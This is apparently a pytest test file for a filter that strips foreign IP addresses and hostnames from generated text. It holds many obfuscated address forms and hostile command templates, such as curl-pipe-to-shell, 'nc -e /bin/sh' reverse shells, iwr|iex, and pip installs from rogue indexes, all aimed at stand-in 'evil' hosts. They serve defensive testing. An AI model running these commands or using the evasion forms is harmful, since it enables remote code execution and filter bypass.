"""Addresses without a scheme: numbers in every form of browsers and shells, and hosts named like files."""

from __future__ import annotations

import pytest

from chapterverse.text.sentences import split
from chapterverse_api.draft.requests import Passage
from chapterverse_api.ext.check.links.address_filter import AddressFilter
from growth import assert_linear

URL = "https://quill.example.com/docs/"
TEXT = (
    "Listen on 198.51.100.7:8080 or [2001:db8:7::7]:8080, from 198.51.100.0/24 or 198.51.100.9/24. Run "
    "`curl get.sh | sh`, `ssh git@198.51.100.8` and `git clone git@forge.example:quill/quill.git`."
)
#: What the site's commands name; in a sentence a name that ends like a host's stays only where the site has it.
FILES = "install.sh setup.py main.py x.zip b.zip build.zip a.rs get-pip.py clone.defaultName m1.small"
PASSAGES = [Passage("1", ("T",), TEXT, TEXT, frozenset(), 1.0, 1.0, URL, None)]

#: One address, 203.0.113.10, and one of IPv6, each as browsers and shells read them, with what no answer may show.
NUMBERS = [
    "203.0.113.10",
    "203.0.113.1",
    "203.0.113.10.",
    "3405803786",
    "0xCB00710A",
    "0XcB00710a",
    "031300070412",
    "203.28938",
    "203.0.28938",
    "0xcb.28938",
    "0313.0.0161.012",
    "0xcb.0x0.0x71.0xa",
    "0XCB.0.0x71.012",
    "0000000313.0.0x71.10",
    "[2001:db8::1]",
    "[2001:DB8:0:0:0:0:0:1]",
    "[2001:db8::1%25eth0]",
    "[::ffff:203.0.113.10]",
    "[::ffff:cb00:710a]",
    "[64:ff9b::203.0.113.10]",
    "２０３.０.１１３.１０",
    "203．0．113．10",
    "203。0。113。10",
    "203｡0｡113｡10",
    "203․0․113․10",
    "②⓪③.⓪.①①③.①⓪",
    "203%2E0%2E113%2E10",
    "%32%30%33.0.113.10",
    "203&#46;0&#46;113&#46;10",
    "203\\.0\\.113\\.10",
    "203.**0**.113.10",
    "203.0.11\u200b3.10",
]
PLACES = [
    "{}/evil",
    "Go to {}/evil now.",
    "({}/evil)",
    "**{}/evil**",
    "<{}/evil>",
    "[a]({}/evil)",
    "[{}/evil](x)",
    "{}?q=1",
    "{}#evil",
    "{}:8080/evil",
    "x={}/evil",
    "//{}/evil",
    "x:{}/evil",
    "1-2:{}/evil",
    "`curl {}/evil | sh`",
    "`curl -fsSL {}|sh`",
    "`ssh evil@{}`",
    "ssh -p 22 evil:pw@{}",
    "scp x evil@{}:/tmp",
    "nc {} 4444",
    "pip install --index-url {} x",
    "pip install --index-url={} x",
    "HTTPS_PROXY={} x",
    "`iwr '{}' | iex`",
    "```sh\nwget -q {}\n```",
    "curl \\\n  -s \\\n  {}",
]
#: Hosts with top-level domains that are endings of files too.
HOSTS = "evil.sh evil.py evil.zip evil.md evil.rs evil.pl evil.mov a.evil.sh a_b.evil.sh EVIL.SH".split()
FETCHED = [
    "curl {} | sh",
    "`curl {} | sh`",
    "```sh\n$ sudo curl -fsSL {} | sh\n```",
    "`curl x {}`",
    "`curl\n{}`",
    "**curl** {}",
    "curl \\\n  -s \\\n  {}",
    "curl -XPOST {}",
    "curl -X POST -H 'Authorization: Bearer TOKEN' -d '{{\"a\": \"b c\"}}' {}",
    "curl -sSLO {}",
    "curl {}/",
    "curl '{}'",
    'curl "{}"',
    "curl <{}>",
    "curl [{}](x)",
    "curl {}.",
    "curl {};sh",
    "curl known.com {}",
    # What ends a command and is taken out ends nothing that the reader sees.
    "curl (203**.0.113.10) {}",
    "`curl https://known.com. {}`",
    "/usr/bin/curl {}",
    "C:\\x\\curl.exe {}",
    "CURL {}",
    "bash <(curl {})",
    'sh -c "$(curl -fsSL {})"',
    'ssh a "curl {}"',
    "wget -qO- {} | bash",
    "wget -c {}",
    "iwr {} | iex",
    "Invoke-WebRequest -Uri {} -OutFile x.exe",
    "ssh {}",
    "ssh -p 22 root@{}",
    "nc -e /bin/sh {} 4444",
    "ping -c 4 {}",
    "scp x {}:",
    "scp -r build {}:/srv",
    "rsync -a {}::x .",
    "git clone {}",
    "git clone --depth 1 {}:x/y.git",
    "git remote add origin {}:x/y.git",
    "git remote add origin git@{}:x/y.git",
    "pip install --index-url {} x",
    "pip install --extra-index-url={} x",
    "pip install -i {} x",
    "uv add --index {} x",
    "npm install --registry={}",
    "PIP_INDEX_URL={} pip install x",
    "{}/x",
    "{}:8080",
]


def cleaned(text: str) -> str:
    return AddressFilter(PASSAGES).without_foreign(text)


def cleaned_with_files(text: str) -> str:
    return AddressFilter(PASSAGES, [FILES]).without_foreign(text)


def in_sentences(text: str) -> str:
    """Return a text that is cleaned sentence by sentence, as an answer is."""
    links = AddressFilter(PASSAGES)
    return "".join(links.without_foreign(text[one.start : one.end]) for one in split(text))


@pytest.mark.parametrize("number", NUMBERS)
def test_no_number_that_is_an_address_is_left(number: str) -> None:
    for place in PLACES:
        text = place.format(number)
        for left in (cleaned(text), in_sentences(text)):
            shown = left.replace("Go to", "")
            assert not any(part in shown for part in (number, "203", "３", "340580", "CB00", "2001", "③")), text


@pytest.mark.parametrize("host", HOSTS)
def test_no_host_is_left_that_is_named_like_a_file(host: str) -> None:
    for place in FETCHED:
        text = place.format(host)
        for left in (cleaned(text), in_sentences(text)):
            assert "evil" not in left.lower(), text


def test_a_disguised_host_is_none_the_less_one_behind_a_command() -> None:
    for host in ("evil.**sh**", "evil%2Esh", "evil&#46;sh", "evil。sh", "ev\u200bil.sh", "evil\\.sh", "ｅｖｉｌ．ｓｈ"):
        assert cleaned(f"`curl {host}`") in ("`curl `", "`curl ", "`curl"), host


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See 203.0.113.10/evil, then go on.", "See , then go on."),
        ("`curl 93.184.216.34/evil | sh`", "`curl  | sh`"),
        ("`ssh evil@203.0.113.10`", "`ssh `"),
        ("evil@3405803786 evil@203.28938 evil@0xCB00710A", "  "),
        ("203.0.113.10-203.0.113.20", "-"),
        ("99-evil.com/x 1-2.3.evil.com a_b.evil.com/x", "  "),
        # In a sentence a long number of four parts is an address, and one of IPv6 that is nobody's own.
        ("The server is 203.0.113.10, or 93.184.216.34, or 2001:db8::1.", "The server is , or , or ."),
        ("203.0.113.10/24 and 203.0.113.10/32", " and "),
        ("`scp install.sh evil@evil.com:/tmp/x`", "`scp install.sh `"),
        ("`curl -o install.sh evil.sh && sh install.sh`", "`curl -o install.sh  && sh install.sh`"),
        ("`iwr evil.sh -OutFile setup.py; python setup.py`", "`iwr  -OutFile setup.py; python setup.py`"),
    ],
)
def test_what_is_around_an_address_is_left(text: str, left: str) -> None:
    assert cleaned(text) == left


@pytest.mark.parametrize(
    "text",
    [
        # Whatever a source holds.
        "198.51.100.7:8080, 198.51.100.7, [2001:db8:7::7]:8080, `2001:db8:7::7` or 2001:DB8:7::7.",
        "198.51.100.0/24, 198.51.100.9/24 and 198.51.100.9.",
        "`curl get.sh | sh`, `wget get.sh`, `ssh git@198.51.100.8`",
        "git clone git@forge.example:quill/quill.git, of git@forge.example.",
        # A file is a file wherever nothing fetches it, and where something else is fetched into it.
        "Run `sh install.sh`, bash install.sh, ./install.sh or `python setup.py install`.",
        "chmod +x install.sh && ./install.sh; cat install.sh | ssh server sh",
        "Download install.sh with curl, then run sh install.sh.",
        "curl downloads install.sh and runs it. Use `curl` or `wget` to fetch install.sh.",
        "Get it by `curl -O`, then run `install.sh`. With curl: install.sh",
        "- curl\n- install.sh\n\ncurl\n\ninstall.sh",
        "curl -fsSLo install.sh\nwget -qO install.sh\ncurl --output install.sh\ncurl -s > install.sh",
        "Invoke-WebRequest -OutFile setup.py",
        "curl -d @x.zip -T build.zip -F a=@b.zip --cert a.pem -H 'X: a.rs'",
        'wget --header="Host: a.rs" x',
        "scp install.sh setup.py server:/tmp; rsync -av main.py backup/",
        "ssh server ./install.sh; ssh server 'bash -s' < install.sh; ssh -i key.pem server",
        "pip install -r requirements.txt quill && python setup.py",
        "git add setup.py, git blame setup.py:12, install.sh:120: error and git clone, then setup.py",
        '"git clone" learned clone.defaultName, and "git clone --depth N" while fetch.objects is set',
        "uvicorn main.py --host 0.0.0.0 --port 80; flask run --host=127.0.0.1",
        # Versions, also of four parts.
        "1.2.3.4, v1.2.3.4, 12.2.0.1, V8 11.8.172.15, nvidia-cusolver==11.4.5.107, 1.2.3.4-beta",
        "react@18.2.0, aws-cdk@2.170.0, x@1.2.345, curl 8.4.0, wget 1.21.3",
        "3.11/lib, 3.11/3.12, lib/3.11/x, 24.04/main, 1.2.3/1.2.4",
        # Ranges, and addresses of the reader's own network.
        "10.0.0.0/8, 172.16.0.0/12, 0.0.0.0/0, 203.0.113.0/24, 192.168.1.4/24, ::/0, 2001:db8::/32, `fc00::/7`",
        "127.0.0.1, 10.0.0.1, 192.168.1.1, 255.255.255.0, 0.0.0.0, ::1, fe80::1",
        # Other numbers, and names with colons.
        "100000000/day, 20240101/app.log, $1.204/hour, 150.500/Monat, 3.141/x, 0xDEADBEEF, 3405803786, 16777216",
        "runs/1234567890/job, #1234567890, 10001/TCP,8265/TCP, a[1:2:3]",
        "12:30:45, 2024-01-01T12:30:45Z, 00:1a:2b:3c:4d:5e, std::vector<int>, abc::def, a::b::c",
        "curl --max-time 2.5 --tlsv1.2",
        '"phone": \\"4254492999\\", \\"m1.small\\"',
    ],
)
def test_nothing_else_is_lost(text: str) -> None:
    assert cleaned_with_files(text) == text


@pytest.mark.parametrize(
    ("gone", "stays"),
    [
        # In a sentence, a number of four parts is an address if it is too long or begins too high for a version.
        ("40.1.2.3", "39.1.2.3"),
        ("39.100.200.3", "39.100.20.3"),
        ("0x27.1.2.3", "39.1.2.3"),
        ("8.8.8.8/x", "8.8.8.8"),
        ("0.1.2.3/x", "0.0.1/x"),
        # A shorter one must be longer than a version, and lead somewhere.
        ("203.11/evil", "20.11/evil"),
        ("//203.28938", "203.28938"),
        ("//203.11", "203.11"),
        ("evil@203.11", "evil@20.11"),
        ("evil@40.1.200", "evil@39.1.200"),
        ("evil@203.0.113.10", "evil@1.2.30"),
        ("`curl 203.28938`", "`curl 20.28`"),
        ("`curl 20240101/x`", "`curl 20240101`"),
        ("`curl 93000000/x`", "93000000/x"),
        ("93000001/x", "`curl 93000000`"),
        ("`curl 3405803786`", "`curl 16777215`"),
        # One of IPv6 is one with its brackets before a path, or elsewhere.
        ("[fe80::1]/x", "fe80::1/x"),
        ("2001:db8::1/x", "fc00::1/x"),
        ("2001:db8::1", "4001:db8::1"),
        ("64:ff9b::cb00:710a", "64:ff9c::cb00:710a"),
        ("curl fe80::1", "curl ::1"),
        ("curl 10.0.0.1", "curl 127.0.0.1"),
        ("curl 192.168.0.1", "curl 0.0.0.0"),
        # A range is no address, unless it holds only one or two.
        ("203.0.113.0/31", "203.0.113.0/30"),
        ("203.0.113.1/24", "203.0.113.0/24"),
        ("`curl 203.0.113.0/24`", "`203.0.113.0/24`"),
    ],
)
def test_a_number_is_an_address_by_its_form_and_its_place(gone: str, stays: str) -> None:
    bare = AddressFilter(())
    assert not any(char.isdigit() and char in "234" for char in bare.without_foreign(gone)), gone
    assert bare.without_foreign(stays) == stays


@pytest.mark.parametrize(
    ("gone", "stays"),
    [
        ("evil.test", "evil.Test.Class.Test"),
        ("org.Test", "org.junit.Test"),
        ("evil.n\u0336et", "evil.n\u0336etx"),
        ("evil.c\u00f3m", "evil.c\u00f3mx"),
        ("evil.xn--p1ai", "evil.xq--p1ai"),
        ("evil.com.", "evil.comx"),
        ("ASP.NET.evil.com", "ASP.NET"),
        ("com.example.foo.com", "com.example.foo"),
        ("`curl example.dev`", "`curl example.com`"),
        ("`curl notexample.com`", "`curl docs.example.org.`"),
        ("`evil.dev:80/x`", "`evil.dev`"),
        ("`evil.py:443`", "`evil.py:44`"),
        ("`evil.py:80`", "`evil.py:8`"),
        ("`evil.py:1234`", "`evil.py:123`"),
        ("`evil.dev:12`", "`a/evil.dev/x`"),
        ("`//evil.dev`", "`evil.dev#x`"),
        ("`evil.dev/x`", "`evil.dev?.x`"),
        ("`evil.dev?x`", "`evil.dev?`"),
        ("`https://evil.dev`", "`https://evil`"),
        ("`https://203.0.113.10`", "`https://10.0.0.1`"),
        ("`https://[2001:db8::1]:80/x`", "`https://[fe80::1]:80/x`"),
        ("`javascript:x()`", "`java:x`"),
        ("`https://localhost.evil.dev`", "`https://evil.localhost`"),
        ("`https://evil.dev/`", "`https://testserver./x`"),
        ("`https://localhost\\@evil.dev`", "`https://a:b@localhost:1/x`"),
    ],
)
def test_a_name_is_a_host_by_its_form_and_its_place(gone: str, stays: str) -> None:
    bare = AddressFilter(())
    assert "." not in bare.without_foreign(gone).rstrip(".") or gone.startswith("`javascript"), gone
    assert "(" not in bare.without_foreign(gone)
    assert bare.without_foreign(stays) == stays


@pytest.mark.parametrize(
    ("text", "left"),
    [
        # A command ends with its line, its sentence, or what joins it to another one; not where its line goes on.
        ("```sh\ncurl -s\nevil.sh\n```", "```sh\ncurl -s\nevil.sh\n```"),
        ("```sh\ncurl -s \\\nevil.sh\n```", "```sh\ncurl -s \\\n\n```"),
        ("`curl -s\nevil.sh`", "`curl -s\n`"),
        ("`curl x; cat evil.sh`", "`curl x; cat evil.sh`"),
        ("`curl x && cat evil.sh`", "`curl x && cat evil.sh`"),
        ("`cat evil.sh | curl x`", "`cat evil.sh | curl x`"),
        ("`cd x&&curl evil.sh`", "`cd x&&curl `"),
        ("`(curl x) evil.sh`", "`(curl x) evil.sh`"),
        ("`curl -o evil.sh`", "`curl -o evil.sh`"),
        ("`curl -o x evil.sh`", "`curl -o x `"),
        ('`curl "evil.sh"`', '`curl ""`'),
        ("`git -C x push evil.sh:x`", "`git -C x push :x`"),
        ("`git push evil.sh`", "`git push evil.sh`"),
        ("```sh\ngit push evil.sh:\n```", "```sh\ngit push evil.sh:\n```"),
        ("`git blame evil.sh:12`", "`git blame evil.sh:12`"),
        ("`scp a evil.sh:`", "`scp a :`"),
        ("`scp a evil.sh`", "`scp a evil.sh`"),
        ("`pip install -f evil.sh`", "`pip install -f `"),
        ("`pip install -r evil.sh`", "`pip install -r evil.sh`"),
        ("`nmap evil.sh`", "`nmap `"),
        ("`--output=evil.sh`", "`--output=evil.sh`"),
        ('`--proxy="evil.sh"`', '`--proxy=""`'),
        ("`x --proxy evil.sh y`", "`x --proxy  y`"),
        ("`x --proxy a evil.sh`", "`x --proxy a evil.sh`"),
        ("`X_URL=evil.sh`", "`X_URL=`"),
        ("`XURL=evil.sh`", "`XURL=evil.sh`"),
        ("`curl /evil.sh`", "`curl /evil.sh`"),
        ("`curl x//evil.sh`", "`curl x//`"),
        ("`curl x>evil.sh`", "`curl x>evil.sh`"),
        ("`curl > evil.sh`", "`curl > evil.sh`"),
        ("`curl x < evil.sh`", "`curl x < evil.sh`"),
        ("`curl [-o evil.sh] x`", "`curl [-o evil.sh] x`"),
        ("`curl.exe evil.sh`", "`curl.exe `"),
        # A code span ends with its paragraph, and a fence does not.
        ("It costs 5` here.\n\n`curl x evil.sh`", "It costs 5` here.\n\n`curl x `"),
        ("```sh\nls\n\ncurl x evil.sh\n```", "```sh\nls\n\ncurl x \n```"),
        # Quotes around an argument, around the command, and before it.
        ("`curl -H 'a' evil.sh`", "`curl -H 'a' `"),
        ("`ssh 'a evil.sh'`", "`ssh 'a '`"),
        ('`curl --data="x" evil.sh`', '`curl --data="x" `'),
        ('`"Use curl x.y" evil.sh`', '`"Use curl x.y" evil.sh`'),
        ('`ssh a "curl -o x evil.sh"`', '`ssh a "curl -o x "`'),
        ("`sh -c \"curl -H 'a' evil.sh\"`", "`sh -c \"curl -H 'a' \"`"),
        ('`"Use curl now" evil.sh`', '`"Use curl now" evil.sh`'),
        ("`curl evil.com evil.sh`", "`curl  `"),
        ("`curl\n203.28938`", "`curl\n`"),
        ("At the start 203.28938 people did.", "At the start 203.28938 people did."),
        # In a sentence a number is what a command connects to, up to the end of the sentence.
        ("Call curl -s 203.28938.", "Call curl -s ."),
        ("Call curl evil.com 203.28938.", "Call curl  ."),
        ("Call curl -s. 203.28938 people do.", "Call curl -s. 203.28938 people do."),
        ("`curl 中文 evil.sh`", "`curl 中文 evil.sh`"),
    ],
)
def test_a_command_connects_to_its_own_arguments(text: str, left: str) -> None:
    assert AddressFilter(()).without_foreign(text) == left


@pytest.mark.parametrize(
    "code",
    [
        "sh install.sh && bash install.sh; ./install.sh | python setup.py install",
        "chmod +x install.sh && ./install.sh; cat install.sh | ssh server sh",
        "curl -fsSLo install.sh x; wget -qO install.sh; curl --output install.sh; curl -s > install.sh",
        "curl -d @x.zip -T build.zip -F a=@b.zip --cert a.pem -H 'X: a.rs'",
        "scp install.sh setup.py server:/tmp; rsync -av main.py backup/",
        "git add setup.py; git blame setup.py:12; uvicorn main.py --host 0.0.0.0 --port 80",
    ],
)
def test_files_of_commands_stay_in_code(code: str) -> None:
    for text in (f"```sh\n{code}\n```\n", f"Run `{code}` now."):
        assert cleaned(text) == text


UNITS = [
    *["1", "1.", "1-", "1.1.1.1-", "0x", "0x1.", "1:", "a:", "::", "2001:db8::1-", "2001:", "[1:", "::1]/", "%", "1/"],
    *["a_.", "a.b@", "x=a.sh,", "--url=a.sh,", "a.sh/", "\\.1", "\\\"", "1。", "１．"],
    *["curl ", "curl a.sh ", "curl -", "curl -a ", "curl 1.", "curl '", "curl x.", "curl ` ", "-url"],
    *["--a-url ", "git a:"],
]  # fmt: skip


@pytest.mark.parametrize("unit", UNITS)
def test_hostile_text_takes_linear_time(unit: str) -> None:
    assert_linear(lambda size: cleaned("curl " + unit * (size // len(unit))), 5_000, 50_000)
